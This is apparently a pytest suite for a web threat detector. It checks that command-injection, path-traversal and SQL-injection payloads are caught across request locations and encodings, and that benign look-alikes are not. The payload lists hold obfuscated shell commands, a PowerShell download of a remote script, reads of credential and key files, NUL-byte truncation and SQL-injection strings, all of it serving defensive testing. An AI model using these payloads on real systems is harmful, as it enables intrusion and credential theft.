"""Command-injection and path-traversal rules added for general attack indicators: recon probes
(`which curl`), whole-value command substitution of a builtin, wildcard and quote-split spellings
of binaries, variable substring expansion, escaped parent steps, short file URIs and NUL-byte
truncation. Each is checked in a query value, a JSON leaf and a header, under encodings, and
against look-alike benign values."""

from __future__ import annotations

import json
from urllib.parse import quote

import pytest

from meshward.core.observation import Observation
from meshward.core.threats import ThreatDetector
from meshward.core.threats.normalise import unsplit

DET = ThreatDetector(level=1)
FULL = ThreatDetector(level=1, prefilter=False)
CMDI = "Command.Injection"
TRAVERSAL = "Path.Traversal"


def q(value: str) -> Observation:
    return Observation("file", path="/s", query="q=" + quote(value, ""))


def js(value: str) -> Observation:
    body = json.dumps({"user": {"bio": value}}).encode()
    return Observation(
        "file", method="POST", path="/u", headers=[("content-type", "application/json")], body=body
    )


def form(value: str) -> Observation:
    return Observation(
        "file",
        method="POST",
        path="/f",
        headers=[("content-type", "application/x-www-form-urlencoded")],
        body=("note=" + quote(value, "")).encode(),
    )


def hdr(value: str) -> Observation:
    return Observation("file", path="/", headers=[("referer", value)])


def names(obs: Observation, det: ThreatDetector = DET) -> set[str]:
    return {t.name for t in det.inspect(obs).threats}


PLACES = {"query": q, "json": js, "form": form, "header": hdr}

POSITIVE = [
    (CMDI, "x; timeout /t 5"),
    (CMDI, "1|sleep 5"),
    (CMDI, "a; kill -9 1"),
    (CMDI, "; sleep 5s"),
    (CMDI, "which curl"),  # recon: is the download tool there?
    (CMDI, " whereis  nc "),
    (CMDI, "command -v python3"),
    (CMDI, " $(true) "),  # blind probe: the whole value is a command substitution
    (CMDI, '"$(false)"'),
    (CMDI, ";w'h'o'am'i"),  # quotes the shell joins back
    (CMDI, '|c""at /tmp/x'),
    (CMDI, "&& who$@ami"),
    (CMDI, ";wh\\oami"),
    (CMDI, "a;/???/c?t /???/p?ss??"),  # wildcards standing in for a binary
    (CMDI, "|/bin/wh?ami"),
    (CMDI, ";cat${PATH:0:1}tmp${PATH:0:1}x"),  # substring expansion conjures a '/'
    (CMDI, "x?u=\\`whoami\\`"),  # escaped backtick
    (CMDI, "system($cmd)"),  # exec function on a variable
    (CMDI, "system(id)"),  # PHP reads the bare constant as its name: runs `id`
    (CMDI, "{${system(whoami)}}"),
    (CMDI, "Runtime.getRuntime().exec(cmd)"),  # command APIs, whatever the argument
    (CMDI, "new ProcessBuilder(args).start()"),
    (CMDI, "require('child_process').exec(c)"),
    (CMDI, "shell_exec($x)"),
    (CMDI, "<?=`$_GET[0]`?>"),  # PHP's backtick operator on request input
    (CMDI, "cat</etc/passwd"),  # input redirection, no space needed
    (CMDI, "x=$'id';$x"),  # bash ANSI-C quoting
    (CMDI, "c${u}at /tmp/x"),  # an unset variable inside a word
    (CMDI, "@^p^o^w^e^r^shell c:\\x"),  # cmd.exe caret escapes
    (CMDI, "#{%x(id)}"),  # Ruby's command literal
    (CMDI, '@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))'),  # .NET
    (CMDI, ";Get-ChildItem C:\\"),  # PowerShell cmdlets
    (CMDI, "Invoke-WebRequest https://x.test/a.ps1"),
    (TRAVERSAL, "/home/u/.aws/credentials"),  # cloud and cluster credentials
    (TRAVERSAL, "~/.kube/config"),
    (TRAVERSAL, "/etc/kubernetes/admin.conf"),
    (TRAVERSAL, "/etc/ssl/private/server.key"),
    (TRAVERSAL, "conf/tomcat-users.xml"),
    (TRAVERSAL, "file:/etc/passwd"),  # RFC 8089 short form
    (TRAVERSAL, "file:/c:/windows/system.ini"),
    (TRAVERSAL, "file:c:\\boot.txt"),
    (TRAVERSAL, "\\.\\.\\/\\.\\.\\/app/config"),  # backslash-escaped ../
    (TRAVERSAL, ".\\./.\\./secret"),
    (TRAVERSAL, "shell.php\x00.jpg"),  # NUL truncation
    (TRAVERSAL, "include.inc\x00"),
    (TRAVERSAL, "report\x00.pdf"),
]

ENCODINGS = {
    "plain": lambda s: s,
    "double-url": lambda s: quote(s, ""),  # q() and form() encode once more
    "percent-u": lambda s: "".join(f"%u{ord(c):04x}" for c in s),
    "html-entities": lambda s: "".join(f"&#{ord(c)};" for c in s),
    "fullwidth": lambda s: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in s),
    "upper": str.upper,
}


@pytest.mark.parametrize("where", sorted(PLACES))
@pytest.mark.parametrize(("name", "payload"), POSITIVE)
def test_found_in_every_place(name: str, payload: str, where: str) -> None:
    value = payload.replace("\x00", "%00") if where == "header" else payload
    assert name in names(PLACES[where](value)), (where, payload)


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize(("name", "payload"), POSITIVE)
def test_found_under_encodings(name: str, payload: str, encoding: str) -> None:
    if encoding == "html-entities" and "\x00" in payload:
        pytest.skip("HTML decodes &#0; to U+FFFD, not to a NUL: no truncation")
    encoded = ENCODINGS[encoding](payload)
    assert name in names(q(encoded)), (encoding, encoded)
    assert name in names(js(encoded)), (encoding, encoded)


BENIGN = [
    "which one is cheaper?",
    "which colour",
    "which python version do you support, 3.11?",
    "`True` is returned when the key exists",
    "returns `false` on error",
    "true",
    "'false'",
    "don't; I'd rather not",
    "O'Neil's shop",
    "C:\\Users\\alice\\file.txt",
    "notes; dir\\file and docs\\readme",
    "a*b*c = 6",
    "alice@example.com",
    "What? /?/ no idea",
    "/usr/bin/*",
    "/srv/??",
    "3.14\x00.5",
    "${HOME}/work",
    "${name:-default}",
    "see file: /etc/app.conf",
    "profile:/users/42",
    "the file:line format",
    "C:\\Program Files\\app\\app.exe",
    "end of string\x00",
    "3.14\x00",
    "version 1.2",
    "https://example.com/download?file=report.pdf",
    "./configure && make",
    "a.b.c",
    "`true`",
    " `false` ",  # a Markdown code span as the whole value (level 2 reports it)
    "The `sleep()` field is required; see the docs",  # libinjection: a quoted identifier
    "Status: open; timeout after 30 seconds",
    "ok | sleep tight 2 nights",
    "done; kill time 2day",
    "glob /tmp/*.log",
    "find /home/*/docs -name x",
    "backup of /var/www/*.html done",
    "the system(s) we run",
    "exec(code) in a namespace",
    "popen(command) returns a pipe",
    "the child_process module",
    "ProcessBuilder and Runtime.exec",
    "it's $'s and cents",
    "x^2 + y^2 = r^2",
    "a^b^c",
    "@team please review",
    "cat < 3 years old",
    "see ~/.aws for details",
    "the .kube directory",
    "Hello ${name}s",
    "user${id}abc",
    'printf("%x(%d)", a, b)',
    "Get-Started guide",
    "get-content is a cmdlet",
    "(get-content reads a file)",
    "Start-Process is how",
    "process.start() is called",
]


@pytest.mark.parametrize("value", BENIGN)
def test_benign_look_alikes_are_clean(value: str) -> None:
    assert names(q(value)) == set(), value
    assert names(js(value)) == set(), value
    assert names(form(value)) == set(), value


@pytest.mark.parametrize("value", [p for _, p in POSITIVE] + BENIGN)
def test_prefilter_agrees_with_full_inspection(value: str) -> None:
    for make in PLACES.values():
        obs = make(value)
        assert names(obs) == names(obs, FULL), value


def test_unsplit_only_joins_words_with_two_marks_or_a_backslash() -> None:
    assert unsplit(";w'h'o'am'i") == ";whoami"
    assert unsplit("who$@ami") == "whoami"
    assert unsplit("wh\\oami") == "whoami"
    assert unsplit("don't; i'd say") == ""  # one apostrophe per word: unchanged
    assert unsplit("plain text") == ""
    assert unsplit("@^p^o^w^e^r^shell") == "@^powershell"
    assert unsplit("c${u}at /x") == "cat /x"
    assert unsplit("${home}/x") == ""  # not inside a word


def test_ansi_c_quoting_with_escapes() -> None:
    assert CMDI in names(q("X=$'cat\\x20/etc/passwd'&&$X"))


def test_path_wildcards_are_not_sql_comments() -> None:
    """`/*` after a path segment is a file-name wildcard; real comments stay SQL."""
    sqli = "SQL.Injection"
    for value in ("glob /tmp/*.log", "ls -l /home/*/docs", "cp /var/*/log/*.gz /b/"):
        for make in PLACES.values():
            assert sqli not in names(make(value)), value
    for value in (
        "admin'/*",
        "1 union/**/select password from users--",
        "' /**/or/**/1=1",
        "x' or 1=1 /tmp/*",
        "1/*!50000union*/select 1",
    ):
        for make in PLACES.values():
            assert sqli in names(make(value)), value


def test_whole_value_substitution_needs_the_whole_value() -> None:
    """Inside prose a Markdown code span looks the same, so only a whole value counts."""
    assert CMDI not in names(js("set it to `true` when ready"))
    assert CMDI not in names(js("set it to $(true) when ready"))
    assert CMDI in names(js(" $(true) "))


@pytest.mark.parametrize("value", ["`true`", " `false` ", '"`true`"'])
def test_backtick_true_is_a_markdown_code_span_at_level_1(value: str) -> None:
    """A Markdown field whose whole value is `true` is a code span, and running true or false
    does nothing: level 1 leaves it, level 2 reports the probe."""
    for make in PLACES.values():
        assert CMDI not in names(make(value)), value
        assert CMDI in names(make(value), ThreatDetector(level=2)), value


def test_config_and_dotfile_passwords_only_from_level_2() -> None:
    """Documentation names ~/.netrc and httpd.conf often: level 2 reports them, level 1 not."""
    level2 = ThreatDetector(level=2)
    for value in ("~/.netrc", "/usr/local/apache2/conf/httpd.conf", "/home/u/.pgpass"):
        assert TRAVERSAL not in names(q(value)), value
        assert TRAVERSAL in names(q(value), level2), value
